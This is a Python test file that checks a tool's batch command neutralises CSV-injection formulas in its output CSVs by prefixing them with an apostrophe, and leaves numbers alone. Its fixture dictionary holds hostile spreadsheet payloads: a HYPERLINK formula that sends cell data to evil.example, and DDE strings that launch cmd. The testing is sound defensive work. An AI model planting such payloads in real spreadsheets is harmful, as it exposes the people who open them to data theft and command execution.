"""Manifest values that a spreadsheet would run as formulas (OWASP "CSV Injection") are written
neutralised (a leading ') into batch-items.csv and the cohort CSVs; numbers stay numbers."""

from __future__ import annotations

import csv

from medius.io._text import csv_safe
from test_batch_local import write_recording
from tests.conftest import run_medius

HOSTILE = {
    "person_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "group": "=cmd|' /C calc'!A0",
    "site": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "+1+1",
}


def test_csv_safe_cells():
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("@x") == "'@x" and csv_safe("\t=x") == "'\t=x"
    assert csv_safe("-3.25") == "-3.25" and csv_safe(-3.25) == -3.25 and csv_safe("+7") == "+7"
    assert csv_safe("-x") == "'-x" and csv_safe("plain") == "plain" and csv_safe("") == ""


def test_formulas_in_the_manifest_are_neutralised_in_every_csv(tmp_path):
    rec = write_recording(tmp_path / "data" / "p1", n_reps=2, fppa_right_deg=15.0, fmt="trc")
    manifest = tmp_path / "manifest.csv"
    with manifest.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["path", "task", *HOSTILE])
        w.writerow([str(rec), "single-leg-squat", *HOSTILE.values()])
    out = tmp_path / "out"
    proc = run_medius(
        "batch",
        manifest,
        "--out",
        out,
        "--workers",
        "1",
        "--fps",
        "30",
        "--image-size",
        "1080x1920",
        "--no-video",
    )
    assert proc.returncode == 0, proc.stderr
    files = [out / "batch-items.csv", out / "cohort-records.csv", out / "cohort-summary.csv"]
    seen = 0
    for path in files:
        rows = list(csv.reader(path.open(encoding="utf-8")))
        for row in rows:
            for cell in row:
                assert (
                    not cell.startswith(("=", "+", "@")) or cell.lstrip("+").replace(".", "", 1).isdigit()
                ), (
                    path.name,
                    cell,
                )
                if cell.startswith("'") and cell[1:] in HOSTILE.values():
                    seen += 1
    items = list(csv.DictReader((out / "batch-items.csv").open(encoding="utf-8")))
    assert items[0]["person_id"] == "'" + HOSTILE["person_id"] and items[0]["group"] == "'" + HOSTILE["group"]
    assert items[0]["status"] == "ok" and seen >= 4
    records = list(csv.DictReader((out / "cohort-records.csv").open(encoding="utf-8")))
    assert records and all(r["person_id"] == "'" + HOSTILE["person_id"] for r in records)
    # numbers (negative ones too) are untouched
    values = [v for r in records for v in r.values() if v.startswith("-")]
    assert all(float(v) < 0 for v in values)
